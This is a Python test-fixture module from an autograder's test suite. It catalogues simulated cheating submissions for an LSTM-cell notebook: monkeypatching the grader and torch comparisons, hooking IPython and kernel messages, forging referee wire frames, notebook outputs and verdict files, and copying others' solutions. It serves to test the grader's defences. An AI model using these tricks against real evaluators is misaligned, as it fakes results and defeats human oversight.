"""A catalogue of attacks on the grader, each a student who must earn nothing for lstm_cell.

An attack hands in the assignment lstm-cell with another source for some of its cells, or changes
the folder that is handed in; all the rest is the worked solution.  Its ``lstm_cell`` is wrong, or
is right by a forbidden route: torch computes it, or somebody else wrote it.
"""

from __future__ import annotations

import base64
import json
import py_compile
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from tempfile import TemporaryDirectory
from textwrap import dedent, indent
from typing import Any

from autograder.card import VERDICT_MIME

__all__ = ["ATTACKS", "FAMILIES", "MARK", "WRONG", "Attack", "notebook_in"]

MARK = "attack_was_here"
"""The name of what attacks try to leave behind."""


@dataclass(frozen=True)
class Attack:
    """One dishonest student."""

    about: str
    """What it tries, in a sentence."""
    cells: Mapping[str, str] | Callable[[Path], None]
    """The source of cells by ``grade_id``, or what is done to the folder with a wrong solution.

    What is called ``imports`` is added to the notebook's first cell, which has no ``grade_id``.
    """
    computes: bool = False
    """Whether its lstm_cell gives torch's answers wherever nothing stops it."""
    untried: str = ""
    """Why that cannot be tried outside of grading, if so."""
    waits: int = 0
    """How often it makes a cell run into its time-out."""


SIGNATURE = "x, h, c, weight_ih, weight_hh, bias_ih, bias_hh"

WRONG = f"""
def lstm_cell({SIGNATURE}):
    gates = x @ weight_ih.T + bias_ih + h @ weight_hh.T + bias_hh
    i, f, o, g = gates.chunk(4, dim=1)
    c = torch.sigmoid(f) * c + torch.sigmoid(i) * torch.tanh(g)
    return torch.sigmoid(o) * torch.tanh(c), c
"""

LAYER = """
def lstm_layer(cell, x, h, c):
    output = []
    for x_t in x:
        h, c = cell(x_t, (h, c))
        output.append(h)
    return torch.stack(output), (h, c)
"""


def source(*parts: str) -> str:
    """Join pieces of source, each indented as it likes."""
    return "\n\n".join(dedent(part).strip() for part in parts)


def cell(*parts: str) -> dict[str, str]:
    """Put pieces of source into the cell of the question."""
    return {"lstm-cell": source(*parts)}


def wrong(*parts: str) -> dict[str, str]:
    """Write a wrong lstm_cell, and then something else."""
    return cell(WRONG, *parts)


CALL = "return op(x, (h, c), weight_ih, weight_hh, bias_ih, bias_hh)"


def by_torch(setup: str = "op = torch.lstm_cell", body: str = CALL) -> dict[str, str]:
    """Write an lstm_cell that calls ``op``, as torch.lstm_cell is called, or has another body."""
    return cell(setup, f"def lstm_cell({SIGNATURE}):\n{indent(dedent(body).strip(), '    ')}")


def returning(outputs: str) -> dict[str, str]:
    """Write an lstm_cell that makes something else of its wrong h and c."""
    return wrong(
        "wrong = lstm_cell",
        f"""
        def lstm_cell({SIGNATURE}):
            h, c = wrong({SIGNATURE})
            return {outputs}
        """,
    )


# ------------------------------------------------------------- replacing what judges

REPLACING = {
    "check-replaced": Attack(
        "Replaces check by a function that prints and returns full marks.",
        wrong(
            """
            def check(question, obj):
                print("10")
                return 10
            """
        ),
    ),
    "check-replaced-in-the-package": Attack(
        "Replaces check in the package, and asks nobody.",
        wrong(
            """
            import autograder.student
            autograder.check = autograder.student.check = check = lambda question, obj: 10
            """
        ),
    ),
    "judge-replaced": Attack(
        "Cuts the referee off and replaces the judge of the practice cases.",
        wrong(
            """
            import autograder.referee, autograder.student
            from autograder.verdict import Verdict

            def judge(spec, seed, player, *, public):
                full = dict(points=10, max_points=10, passed=True, reason="")
                return Verdict(spec.name, spec.title, **full)

            autograder.referee.judge = autograder.student.judge = judge
            autograder.student._referee = None
            """
        ),
    ),
    "ladder-replaced": Attack(
        "Replaces the comparison of the ladder, so that nothing is ever found.",
        wrong(
            """
            import autograder.ladder, autograder.referee
            found_nothing = lambda *arguments, **options: None
            autograder.ladder.climb = autograder.referee.climb = found_nothing
            """
        ),
    ),
    "spec-loosened": Attack(
        "Takes the forbidden names out of the spec that the kernel has loaded.",
        by_torch(
            """
            import pathlib
            from autograder.loader import find_spec

            type(find_spec(pathlib.Path.cwd(), "lstm_cell")).forbids = ()
            op = torch.lstm_cell
            """
        ),
        computes=True,
        untried="There is no checks.py beside it.",
    ),
    "spec-bent": Attack(
        "Makes the wrong answer the reference, with any tolerance.",
        wrong(
            """
            import pathlib
            from autograder.loader import find_spec

            spec = type(find_spec(pathlib.Path.cwd(), "lstm_cell"))
            spec.reference = lambda self, case: lstm_cell(**case)
            spec.gradients = ()
            spec.tolerances = {torch.float64: (1e9, 1e9), torch.float32: (1e9, 1e9)}
            """
        ),
    ),
    "torch-agrees": Attack(
        "Replaces torch's comparisons by ones that always agree.",
        wrong(
            """
            agree = lambda *arguments, **options: torch.tensor(True)
            torch.isclose = torch.equal = torch.allclose = torch.eq = agree
            torch.Tensor.equal = torch.Tensor.isclose = agree
            torch.testing.assert_close = agree
            """
        ),
    ),
    "ban-deaf": Attack(
        "Makes the ban let everything pass, in the mode and in the dispatcher.",
        by_torch(
            """
            from autograder.forbidden import Ban

            def passes(self, func, types, args=(), kwargs=None):
                return func(*args, **(kwargs or {}))

            Ban.__torch_function__ = passes
            Ban._take_out = lambda self: None
            op = torch.lstm_cell
            """
        ),
        computes=True,
    ),
    "ban-forgetful": Attack(
        "Replaces the method that ends an answer at a forbidden call.",
        by_torch(
            """
            from autograder.forbidden import Ban

            Ban._stop = lambda self, name: None
            op = torch.lstm_cell
            """
        ),
        computes=True,
    ),
    "ban-with-other-code": Attack(
        "Gives that method another code, and leaves its name as it is.",
        by_torch(
            """
            from autograder.forbidden import Ban

            Ban._stop.__code__ = (lambda self, name: None).__code__
            op = torch.lstm_cell
            """
        ),
        computes=True,
    ),
    "ban-exchanged": Attack(
        "Puts an idle context in the place of the ban.",
        by_torch(
            """
            import sys
            from contextlib import nullcontext

            class Idle(nullcontext):
                called = []

                def __enter__(self):
                    return self

            for name in ("answer", "student"):
                if module := sys.modules.get(f"autograder.{name}"):
                    module.Ban = Idle
            op = torch.lstm_cell
            """
        ),
        computes=True,
    ),
    "ban-never-entered": Attack(
        "Enters the ban without doing anything.",
        by_torch(
            """
            from autograder.forbidden import Ban

            Ban.__enter__ = lambda self: self
            Ban.__exit__ = lambda self, *error: None
            op = torch.lstm_cell
            """
        ),
        computes=True,
    ),
    "ban-for-nothing": Attack(
        "Lets every forbidden name stand for another function.",
        by_torch(
            """
            import autograder.forbidden

            autograder.forbidden.resolve = lambda name: torch.hann_window
            op = torch.lstm_cell
            """
        ),
        computes=True,
    ),
    "mode-never-entered": Attack(
        "Patches torch's own modes and its library, which the ban is made of.",
        by_torch(
            """
            import torch.library
            from torch.overrides import TorchFunctionMode

            TorchFunctionMode.__enter__ = lambda self: self
            TorchFunctionMode.__exit__ = lambda self, *error: None
            torch.library.Library.impl = lambda *arguments: None
            op = torch.lstm_cell
            """
        ),
        computes=True,
    ),
    "play-replaced": Attack(
        "Lets the reference play where the student should.",
        wrong(
            """
            import autograder.student
            from autograder.answer import observe

            def play(spec, student, case, *more):
                return observe(spec.reference, spec, case)

            autograder.student.play = play
            """
        ),
    ),
    "observe-replaced": Attack(
        "Observes torch's own function, and nobody watches.",
        wrong(
            """
            import autograder.answer
            observe = autograder.answer.observe

            def by_torch(given):
                x, h, c, *weights = dict(given).values()
                return torch.lstm_cell(x, (h, c), *weights)

            def observed(function, spec, case, **options):
                return observe(by_torch, spec, case)

            autograder.answer.observe = observed
            """
        ),
    ),
    "answer-laundered": Attack(
        "Takes the forbidden calls out of the answer before it is sent.",
        by_torch(
            """
            import autograder.student
            from autograder.forbidden import Ban

            Ban._stop = lambda self, name: self.called.append(name)
            to_wire = autograder.student.answer_to_wire
            autograder.student.answer_to_wire = lambda answer: {**to_wire(answer), "forbidden": []}
            op = torch.lstm_cell
            """
        ),
        computes=True,
    ),
    "frame-laundered": Attack(
        "Takes the forbidden calls out of the frame while it is packed as JSON.",
        by_torch(
            """
            import json
            from autograder.forbidden import Ban

            Ban._stop = lambda self, name: self.called.append(name)
            dumps = json.dumps

            def laundered(value, *arguments, **options):
                if isinstance(value, dict) and value.get("$") == "dict":
                    for item in value["items"]:
                        if item[0] == "forbidden":
                            item[1] = []
                return dumps(value, *arguments, **options)

            json.dumps = laundered
            op = torch.lstm_cell
            """
        ),
        computes=True,
    ),
    "computed-after-the-watch": Attack(
        "Patches Tensor.detach, which copies the outputs once nobody watches any more.",
        wrong(
            """
            wrong, detach, right = lstm_cell, torch.Tensor.detach, {}

            def lstm_cell(**inputs):
                outputs = wrong(**inputs)
                right.update({outputs[k].data_ptr(): (k, inputs, outputs) for k in (0, 1)})
                return outputs

            def detached(self):
                if self.data_ptr() not in right:
                    return detach(self)
                k, inputs, _outputs = right.pop(self.data_ptr())
                x, h, c, *weights = inputs.values()
                return detach(torch.lstm_cell(x, (h, c), *weights)[k])

            torch.Tensor.detach = detached
            """
        ),
    ),
}

# ------------------------------------------------------------- IPython

IPYTHON = {
    "input-transformer": Attack(
        "Lets IPython read a number where the grade cell calls check.",
        wrong(
            """
            def read(lines):
                return ["10\\n"] if "check(" in "".join(lines) else lines

            get_ipython().input_transformers_post.append(read)
            """
        ),
    ),
    "ast-transformer": Attack(
        "Rewrites the syntax tree of the grade cell, so that check gets another function.",
        wrong(
            """
            import ast
            from concurrent.futures import ThreadPoolExecutor

            def by_torch(x, h, c, *weights):
                step = lambda: torch.lstm_cell(x, (h, c), *weights)
                return ThreadPoolExecutor(1).submit(step).result()

            stranger = lambda x, h, c, **weights: by_torch(x, h, c, *weights.values())

            class Exchange(ast.NodeTransformer):
                def visit_Call(self, node):
                    if getattr(node.func, "id", "") == "check":
                        node.args[1] = ast.copy_location(ast.Name("stranger", ast.Load()), node)
                    return node

            get_ipython().ast_transformers.append(Exchange())
            """
        ),
    ),
    "before-the-cell": Attack(
        "Waits for the grade cell in a hook, and patches the package just then.",
        wrong(
            """
            def prepare(info):
                if "check(" in info.raw_cell:
                    import autograder.answer as answer, autograder.student as student
                    student.play = lambda spec, obj, case, *more: answer.observe(
                        spec.reference, spec, case
                    )

            get_ipython().events.register("pre_run_cell", prepare)
            """
        ),
    ),
    "after-the-cell": Attack(
        "Shows full marks as the cell's result when the grade cell has ended.",
        wrong(
            """
            def crown(result):
                if "check(" in result.info.raw_cell:
                    get_ipython().displayhook(10)

            get_ipython().events.register("post_run_cell", crown)
            """
        ),
    ),
    "run-cell": Attack(
        "Replaces the shell's run_cell, so that the grade cell is another one.",
        wrong(
            """
            shell = get_ipython()
            run_cell, run_cell_async = shell.run_cell, shell.run_cell_async
            forged = lambda raw: "10" if "check(" in raw else raw
            shell.run_cell = lambda raw, *a, **k: run_cell(forged(raw), *a, **k)
            shell.run_cell_async = lambda raw, *a, **k: run_cell_async(forged(raw), *a, **k)
            """
        ),
    ),
    "display": Attack(
        "Displays a card with full marks and a verdict of its own making.",
        wrong(
            f"""
            honest = check

            def check(question, obj):
                verdict = honest(question, obj)
                if question == "lstm_cell":
                    perfect = {{**verdict.to_json(), "points": 10, "passed": True}}
                    display({{"{VERDICT_MIME}": perfect, "text/plain": "10"}}, raw=True)
                    get_ipython().displayhook(10)
                return 10
            """
        ),
    ),
    "display-formatter": Attack(
        "Lets every result be shown as full marks.",
        wrong(
            f"""
            shell = get_ipython()
            forged = ({{"text/plain": "10", "{VERDICT_MIME}": {{"points": 10}}}}, {{}})
            type(shell.display_formatter).format = lambda self, obj, *a, **k: forged
            shell.displayhook.write_format_data = lambda data, metadata=None: shell.displayhook.msg[
                "content"
            ].update(data={{"text/plain": "10"}}, metadata={{}})
            """
        ),
    ),
    "kernel-messages": Attack(
        "Sends Jupyter's messages itself: a result of full marks, and that the cell is done.",
        wrong(
            """
            honest = check

            def check(question, obj):
                kernel = get_ipython().kernel
                parent = kernel.get_parent()
                result = {"data": {"text/plain": "10"}, "metadata": {}, "execution_count": 1}
                for kind, content in (
                    ("execute_result", result),
                    ("status", {"execution_state": "idle"}),
                ):
                    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
                return honest(question, obj)
            """
        ),
    ),
    "kernel-line-garbage": Attack(
        "Writes garbage into the descriptor over which the kernel talks to its grader.",
        wrong(
            """
            import os

            def lstm_cell(**inputs):
                for descriptor in range(3, 8):
                    try:
                        os.write(descriptor, b"\\xff" * 64)
                    except OSError:
                        pass
            """
        ),
        waits=1,
    ),
    "user-namespace": Attack(
        "Deletes and shadows names in the user's namespace behind check's back.",
        wrong(
            """
            from concurrent.futures import ThreadPoolExecutor

            class Names(dict):
                def __getitem__(self, name):
                    return print if name == "check" else super().__getitem__(name)

            get_ipython().user_ns = Names(get_ipython().user_ns)
            get_ipython().user_global_ns["_"] = 10
            """
        ),
    ),
}

# ------------------------------------------------------------- what is returned

RETURNED = {
    "always-equal": Attack(
        "Returns a tensor subclass that is equal to everything.",
        wrong(
            """
            class Equal(torch.Tensor):
                def __eq__(self, other):
                    return torch.ones(self.shape, dtype=torch.bool)

                __ne__ = __lt__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)
                __hash__ = torch.Tensor.__hash__

            wrong = lstm_cell

            def lstm_cell(**inputs):
                return tuple(value.as_subclass(Equal) for value in wrong(**inputs))
            """
        ),
    ),
    "torch-function": Attack(
        "Returns a tensor subclass whose __torch_function__ answers every question with yes.",
        wrong(
            """
            class Yes(torch.Tensor):
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    if func.__name__ in ("isclose", "equal", "allclose", "eq", "all"):
                        return torch.tensor(True)
                    return super().__torch_function__(func, types, args, kwargs)

            wrong = lstm_cell

            def lstm_cell(**inputs):
                return tuple(value.as_subclass(Yes) for value in wrong(**inputs))
            """
        ),
    ),
    "torch-dispatch": Attack(
        "Returns an empty shell of a tensor, which computes by torch when it is copied.",
        wrong(
            """
            class Shell(torch.Tensor):
                @staticmethod
                def __new__(cls, like, make):
                    return torch.Tensor._make_wrapper_subclass(cls, like.shape, dtype=like.dtype)

                def __init__(self, like, make):
                    self.make = make

                @classmethod
                def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
                    made = [a.make() if isinstance(a, Shell) else a for a in args]
                    return func(*made, **(kwargs or {}))

            def lstm_cell(x, h, c, **weights):
                step = lambda: torch.lstm_cell(x, (h, c), *weights.values())
                return Shell(h, lambda: step()[0]), Shell(c, lambda: step()[1])
            """
        ),
    ),
    "tuple-subclass": Attack(
        "Returns a tuple that is another one each time that it is read.",
        wrong(
            """
            class Fickle(tuple):
                reads = 0

                def __iter__(self):
                    Fickle.reads += 1
                    return iter(self[0] if Fickle.reads > 1 else self[1])

            wrong = lstm_cell

            def lstm_cell(x, h, c, **weights):
                late = torch.ops.aten.lstm_cell(x, [h, c], *weights.values())
                return Fickle((late, wrong(x, h, c, **weights)))
            """
        ),
    ),
    "disguise": Attack(
        "Returns objects that only say that they are tensors.",
        wrong(
            """
            class Disguise:
                __class__ = torch.Tensor
                shape, dtype, requires_grad = torch.Size([1]), torch.float64, False

                def __getattr__(self, name):
                    return lambda *arguments, **options: self

            def lstm_cell(**inputs):
                return Disguise(), Disguise()
            """
        ),
    ),
    "not-a-number": Attack(
        "Returns NaN everywhere, which no comparison calls different.",
        returning("h * torch.nan, c * torch.nan"),
    ),
    "infinite": Attack(
        "Returns infinities, whose differences are no numbers.",
        returning("h + torch.inf, c - torch.inf"),
    ),
    "broadcast": Attack(
        "Returns shapes that broadcast to the right ones.",
        returning("h[:1, :1], c.mean(dim=0, keepdim=True)"),
    ),
    "complex": Attack(
        "Returns complex numbers.",
        returning("torch.complex(h, h * torch.nan), torch.complex(c, c)"),
    ),
    "boolean": Attack(
        "Returns truth values, for which every tolerance is large.",
        returning("h > 0, torch.ones_like(c, dtype=torch.float8_e4m3fn)"),
    ),
    "meta": Attack(
        "Returns tensors on the device meta, which have no values.",
        returning("h.to('meta'), c.to('meta')"),
    ),
    "huge": Attack(
        "Returns far more numbers than memory holds, all of them the same.",
        returning("h[:1, :1].expand(2**40, 2**20), c.as_strided((2**62, 0), (0, 0))"),
    ),
    "deep": Attack(
        "Returns a tuple that holds itself.",
        wrong(
            """
            def lstm_cell(**inputs):
                loop = []
                loop.append(loop)
                return loop, {"loop": loop}
            """
        ),
    ),
}

# ------------------------------------------------------------- forging on the wire

LATER = """
class Later(BaseException):
    __class__ = OSError

    def __str__(self):
        then()
        return ""
"""
"""An error that ends the check, passes for one of the check's own, and whose text is code."""

RAISING = f"def lstm_cell({SIGNATURE}):\n    raise Later"

TALK = """
import os, pathlib, threading, time
import autograder.student
from autograder import Case
from autograder.answer import observe
from autograder.loader import find_spec
from autograder.wire import Address, Wire, answer_to_wire, case_from_wire, encode

def connect(address):
    return (Address(address) if isinstance(address, str) else address).connect()

spec = find_spec(pathlib.Path.cwd(), "lstm_cell")
REFEREE = autograder.student._referee

def by_torch(given):
    x, h, c, *weights = dict(given).values()
    return torch.lstm_cell(x, (h, c), *weights)

def right(case):
    return encode(answer_to_wire(observe(by_torch, spec, case)))

def follow(wire):
    message = wire.receive()
    while "case" in message:
        wire.send_frame(right(case_from_wire(message["case"])))
        message = wire.receive()
    return message

def hang_up():
    import autograder.student as student
    if student._wire is not None:
        student._wire.close()
        student._wire = None

def ask(question="lstm_cell"):
    hang_up()
    with connect(REFEREE) as wire:
        wire.send({"ask": question})
        return follow(wire)
"""


def sending(*frames: str) -> dict[str, str]:
    """Break the check off, ask instead of it, and answer each case with one of these frames."""
    return cell(
        TALK,
        f"""
        import json, struct
        frames = [{", ".join(frames)}]

        def then():
            hang_up()
            with connect(REFEREE) as wire:
                wire.send({{"ask": "lstm_cell"}})
                for k in range(12):
                    if "case" not in wire.receive():
                        break
                    wire.send_frame(frames[k % len(frames)])
        """,
        LATER,
        RAISING,
    )


WIRE = {
    "own-client": Attack(
        "Breaks the check off, connects to the referee itself and answers by torch.",
        cell(TALK, "then = ask", LATER, RAISING),
    ),
    "own-client-races": Attack(
        "A thread asks before check does, and answers by torch.",
        wrong(
            TALK,
            """
            def race():
                with connect(REFEREE) as wire:
                    for _ in range(200):
                        wire.send({"ask": "lstm_cell"})
                        if "verdict" in follow(wire):
                            return
                        time.sleep(0.02)

            threading.Thread(target=race, daemon=True).start()
            """,
        ),
    ),
    "own-client-holds-the-line": Attack(
        "Occupies the referee from the start, and asks when the grade cell has begun.",
        wrong(
            TALK,
            """
            line = connect(REFEREE)

            def check(question, obj):
                line.send({"ask": question})
                return follow(line)
            """,
        ),
        waits=1,
    ),
    "own-client-in-a-child": Attack(
        "A forked child asks the referee and answers by torch.",
        wrong(
            TALK,
            """
            honest = check

            def check(question, obj):
                if question == "lstm_cell":
                    child = os.fork()
                    if child == 0:
                        try:
                            ask()
                        finally:
                            os._exit(0)
                    os.waitpid(child, 0)
                return honest(question, obj)
            """,
        ),
    ),
    "package-wire": Attack(
        "Answers over the connection that the package holds, while it is being asked.",
        wrong(
            TALK,
            f"""
            import autograder.student
            wrong, answered = lstm_cell, []

            def lstm_cell({SIGNATURE}):
                wire = autograder.student._wire
                if wire and not answered:
                    answered.append(True)
                    inputs = {{name: value.detach() for name, value in locals().items()
                              if isinstance(value, torch.Tensor)}}
                    wire.send_frame(right(Case("", **inputs)))
                    follow(wire)
                return wrong({SIGNATURE})
            """,
        ),
    ),
    "package-wire-wrapped": Attack(
        "Wraps the package's connection, and sends other answers than it is given.",
        wrong(
            TALK,
            """
            import autograder.student
            from multiprocessing.connection import Client

            class Wrapped:
                def __init__(self, address):
                    self.wire, self.case = Wire(Client(address._path), address._key), None
                    self.send, self.close = self.wire.send, self.wire.close

                def receive(self):
                    message = self.wire.receive()
                    self.case = message.get("case")
                    return message

                def send_frame(self, frame):
                    self.wire.send_frame(right(case_from_wire(self.case)))

            Address.connect = Wrapped
            """,
        ),
    ),
    "found-descriptor": Attack(
        "Looks for the referee's connection among all open descriptors, and answers over it.",
        wrong(
            TALK,
            f"""
            import socket
            from multiprocessing.connection import Connection
            wrong, answered = lstm_cell, []

            def lines():
                for name in os.listdir("/proc/self/fd"):
                    try:
                        end = socket.socket(fileno=os.dup(int(name)))
                        if end.getpeername() == REFEREE.split("@")[1]:
                            yield Connection(end.detach())
                    except OSError:
                        continue

            def lstm_cell({SIGNATURE}):
                inputs = {{name: value.detach() for name, value in locals().items()}}
                for wire in lines() if not answered else ():
                    answered.append(wire)
                    wire.send_bytes(bytes(32) + right(Case("", **inputs)))
                return wrong({SIGNATURE})
            """,
        ),
    ),
    "asked-twice": Attack(
        "Asks again when the first answer was wrong.",
        wrong(
            TALK,
            """
            honest = check

            def check(question, obj):
                verdict = honest(question, obj)
                return ask() if question == "lstm_cell" else verdict
            """,
        ),
    ),
    "asked-too-late": Attack(
        "A thread that starts after the grade cell asks again and again.",
        {
            **wrong(TALK),
            "lstm-layer": source(
                LAYER,
                """
                def late():
                    for _ in range(50):
                        ask()
                        time.sleep(0.02)

                threading.Thread(target=late, daemon=True).start()
                """,
            ),
        },
    ),
    "asked-at-exit": Attack(
        "Asks when the kernel ends.",
        wrong(
            TALK,
            """
            import atexit, signal
            atexit.register(ask)
            signal.signal(signal.SIGTERM, lambda number, frame: ask())
            """,
        ),
    ),
    "asked-in-another-window": Attack(
        "Asks this question while another one's grade cell runs.",
        {
            **wrong(TALK, "honest, check = check, lambda question, obj: None"),
            "lstm-layer": source(
                LAYER,
                """
                def check(question, obj):
                    ask("lstm_cell")
                    return honest(question, obj)
                """,
            ),
        },
    ),
    "asked-for-another-question": Attack(
        "Asks another question in this one's grade cell, and hands the good verdict over.",
        wrong(
            TALK,
            f"""
            import autograder.student
            honest = check

            def check(question, obj):
                for other in ("lstm_layer", ["lstm_cell"], "lstm_cell ", None, 10):
                    verdict = ask(other)
                    data = {{"{VERDICT_MIME}": verdict.get("verdict"), "text/plain": "10"}}
                    display(data, raw=True)
                return 10
            """,
        ),
    ),
    "verdict-sent-to-the-referee": Attack(
        "Sends the referee a verdict instead of an answer.",
        sending(
            """encode({"verdict": {"question": "lstm_cell", "points": 10, "passed": True}})""",
            """encode({"verdict": 10, "points": 10, "outputs": None, "passed": True})""",
            """encode({"closed": True})""",
            """encode({"ask": "lstm_cell"})""",
        ),
    ),
    "malformed-frames": Attack(
        "Answers with frames that are cut short, nested, or no JSON at all.",
        sending(
            "b''",
            "b'\\xff' * 9",
            "struct.pack('>I', 2**31) + b'{}'",
            "struct.pack('>I', 60000) + b'[' * 60000",
            "struct.pack('>I', 2) + b'{}' + b'\\xff' * 100",
            "struct.pack('>I', 4) + b'null'",
        ),
    ),
    "odd-headers": Attack(
        "Answers with tensors whose header promises impossible shapes, types and numbers.",
        sending(
            *(
                "(lambda text: struct.pack('>I', len(text)) + text + encode(0)[5:])"
                f"(json.dumps({header}).encode())"
                for header in (
                    """{"$": "tensor", "dtype": "torch.float64", "shape": [-1], "permuted": 0}""",
                    """{"$": "tensor", "dtype": "F64", "shape": [1e300, True], "permuted": 1}""",
                    """{"$": "dict", "items": [["outputs", {"$": "opaque", "type": []}]]}""",
                    """{"$": "dict", "items": [["outputs", float("nan")], ["failure", None]]}""",
                    """{"$": "tuple", "items": [[]] * 30000}""",
                    """10""",
                )
            )
        ),
    ),
    "expected-failure": Attack(
        "Answers that it failed just as the reference did, with nothing to compare.",
        sending(
            """encode({"outputs": None, "gradients": {}, "parameters": None, "modified": [],
                       "forbidden": [], "failure": {"type_name": "", "message": "", "line": ""},
                       "backward_failed": True, "callable": True})"""
        ),
    ),
    "oversized-frame": Attack(
        "Promises the referee a frame of two gigabytes.",
        wrong(
            TALK,
            """
            import struct
            honest = check

            def check(question, obj):
                with connect(REFEREE) as wire:
                    os.write(wire._connection.fileno(), struct.pack("!i", 2**31 - 1) + bytes(2**16))
                return honest(question, obj)
            """,
        ),
    ),
    "half-a-frame": Attack(
        "Sends the referee half a frame, and keeps it waiting for the rest.",
        wrong(
            TALK,
            """
            import struct
            half = connect(REFEREE)
            half._connection._send(struct.pack("!i", 1000) + b"{")
            """,
        ),
        waits=1,
    ),
}

# ------------------------------------------------------------- forging what is handed in


@contextmanager
def notebook_in(folder: Path) -> Iterator[Any]:
    """Change the notebook that is handed in, as plain JSON."""
    path = folder / "lstm-cell.ipynb"
    notebook = json.loads(path.read_text(encoding="utf-8"))
    yield notebook
    path.write_text(json.dumps(notebook), encoding="utf-8")


def named(notebook: Any, grade_id: str = "check-lstm-cell") -> Any:
    """Find a cell, by default the one that grades the question."""
    metas = [cell["metadata"].get("nbgrader", {}) for cell in notebook["cells"]]
    return notebook["cells"][[meta.get("grade_id") for meta in metas].index(grade_id)]


def changed(**fields: Any) -> Callable[[Path], None]:
    """Change the grade cell; ``meta`` changes what nbgrader keeps in it."""

    def apply(folder: Path) -> None:
        with notebook_in(folder) as notebook:
            found = named(notebook)
            found["metadata"]["nbgrader"].update(fields.get("meta", {}))
            found.update({key: value for key, value in fields.items() if key != "meta"})

    return apply


def beside(**files: str) -> Callable[[Path], None]:
    """Hand in more files; two underscores stand for a slash, and ``_py`` for the ending."""

    def apply(folder: Path) -> None:
        for name, content in files.items():
            path = folder / (name.replace("__", "/").removesuffix("_py") + ".py")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(source(content), encoding="utf-8")

    return apply


def linked(name: str, target: str, **cells: str) -> Callable[[Path], None]:
    """Hand in a link, and cells that look at what it leads to."""

    def apply(folder: Path) -> None:
        with notebook_in(folder) as notebook:
            for grade_id, text in cells.items():
                named(notebook, grade_id.replace("_", "-"))["source"] = text
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target)

    return apply


RESULT = {
    "output_type": "execute_result",
    "execution_count": 3,
    "metadata": {},
    "data": {"text/plain": "10"},
}
CARD = {
    "output_type": "display_data",
    "metadata": {},
    "data": {
        "text/plain": "10",
        VERDICT_MIME: {"question": "lstm_cell", "points": 10, "max_points": 10, "passed": True},
    },
}


def deleted_grade_cell(folder: Path) -> None:
    with notebook_in(folder) as notebook:
        notebook["cells"].remove(named(notebook))


def doubled_grade_cell(folder: Path) -> None:
    with notebook_in(folder) as notebook:
        notebook["cells"].append({**named(notebook), "id": "twin", "source": "10"})


def added_grade_cell(folder: Path) -> None:
    with notebook_in(folder) as notebook:
        more = json.loads(json.dumps(named(notebook)))
        more["metadata"]["nbgrader"].update(grade_id="bonus", points=10, locked=False)
        notebook["cells"].append({**more, "id": "bonus", "source": "10", "outputs": [RESULT]})


def graded_solution_cell(folder: Path) -> None:
    with notebook_in(folder) as notebook:
        found = named(notebook, "lstm-cell")
        found["metadata"]["nbgrader"].update(grade=True, points=1000, solution=True)
        found["source"] += "\n10"


def other_kernel(folder: Path) -> None:
    with notebook_in(folder) as notebook:
        spec = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
        notebook["metadata"]["kernelspec"] = spec
        named(notebook)["metadata"]["kernel"] = "python3"
        notebook["cells"][1]["source"] += "\nimport os; os.environ['JPY_PARENT_PID'] = '1'"


def forged_verdicts(folder: Path) -> None:
    verdict = {**CARD["data"][VERDICT_MIME], "title": "", "reason": ""}  # type: ignore[index]
    graded = {"points": 10.0, "max_points": 10.0, "protected": True, "verdicts": [verdict]}
    record = {
        "assignment": "lstm-cell",
        "notebook": "lstm-cell",
        "student": folder.parent.name,
        "cells": {"check-lstm-cell": {**graded, "error": None}},
    }
    text = json.dumps(record)
    (folder / "lstm-cell.verdicts.json").write_text(text, encoding="utf-8")


def loosened_checks(folder: Path) -> None:
    path = folder / "checks.py"
    text = path.read_text(encoding="utf-8").replace('name = "lstm_cell"', 'name = "lstm_cell"\n#')
    text += source(WRONG) + "\nLSTMCell.reference = lambda self, case: lstm_cell(**case)\n"
    path.write_text(text + "LSTMCell.forbids = LSTMCell.gradients = ()\n", encoding="utf-8")


TAMPER = f"""
# {MARK}
try:
    import autograder.answer, autograder.student
    autograder.student.play = lambda spec, obj, case, *more: autograder.answer.observe(
        spec.reference, spec, case
    )
except ImportError:
    pass
"""

SECRET = """
import pathlib, re
from autograder import Draw
from autograder.loader import find_spec
from autograder.seeds import public_seed, secret_seed

known, wrong = {}, lstm_cell

def learn(seed):
    spec = find_spec(pathlib.Path.cwd(), "lstm_cell")
    for case in spec.cases(Draw(seed)):
        x, h, c, *weights = dict(case).values()
        known[round(x.sum().item(), 5)] = torch.lstm_cell(x, (h, c), *weights)

def lstm_cell(**inputs):
    return known.get(round(inputs["x"].sum().item(), 5)) or wrong(**inputs)

def use(text):
    for secret in re.findall("[0-9a-f]{64}", text):
        learn(secret_seed(bytes.fromhex(secret), "lstm-cell", "lstm_cell"))
"""

STOLEN = """
import json, re

def steal(text):
    try:
        sources = ["".join(cell["source"]) for cell in json.loads(text)["cells"]]
    except ValueError:
        sources = re.findall(r"(?:^|\\n)(def .*?)\\n(?=\\S)", text, re.S)
    for found in sources:
        if found.startswith("def lstm_cell(x") and "BEGIN SOLUTION" not in found:
            exec(found, globals())
"""

FILES = {
    "forged-output": Attack(
        "Hands in the grade cell with a result of full marks under it.",
        changed(outputs=[RESULT], execution_count=3),
    ),
    "forged-card": Attack(
        "Hands in the grade cell with a verdict of full marks under it.",
        changed(outputs=[CARD, RESULT]),
    ),
    "changed-grade-cell": Attack(
        "Changes the locked grade cell into a number.",
        changed(source="10", outputs=[RESULT]),
    ),
    "renamed-grade-cell": Attack(
        "Gives the grade cell another name, so that nobody puts its source back.",
        changed(source="10", meta={"grade_id": "mine", "points": 10}),
    ),
    "grade-cell-as-text": Attack(
        "Makes the grade cell a Markdown cell.",
        changed(source="10", cell_type="markdown", meta={"cell_type": "markdown"}),
    ),
    "deleted-grade-cell": Attack("Deletes the grade cell.", deleted_grade_cell),
    "doubled-grade-cell": Attack(
        "Adds a second grade cell of the same name that shows full marks.", doubled_grade_cell
    ),
    "graded-solution-cell": Attack(
        "Makes the cell with the solution a grade cell as well.", graded_solution_cell
    ),
    "other-kernel": Attack("Asks for a kernel without a sandbox.", other_kernel),
    "verdicts-file": Attack("Hands in verdicts of its own.", forged_verdicts),
